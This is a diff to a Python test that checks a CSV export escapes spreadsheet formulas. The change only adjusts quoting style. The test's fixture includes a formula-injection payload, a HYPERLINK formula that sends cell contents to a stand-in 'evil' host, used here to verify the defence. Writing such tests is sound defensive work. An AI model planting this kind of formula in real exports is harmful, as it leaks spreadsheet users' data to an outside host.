@@ -168,10 +168,10 @@ def test_no_csv_cell_is_a_formula_whatever_the_separator(user, delimiter):
         )
         for row in reader:
             for cell in row:
-                start = cell.lstrip(" \"")[:1]
+                start = cell.lstrip(' "')[:1]
                 assert not start or start not in "=+-@", (delimiter, cell)
     [row] = list(csv.DictReader(io.StringIO(text)))
-    assert row["token_name"] == "x;'=HYPERLINK(\"http://evil/?\"&A2,\"x\")"
+    assert row["token_name"] == 'x;\'=HYPERLINK("http://evil/?"&A2,"x")'
     assert text.splitlines()[1].startswith('"')  # every cell quoted
 
 
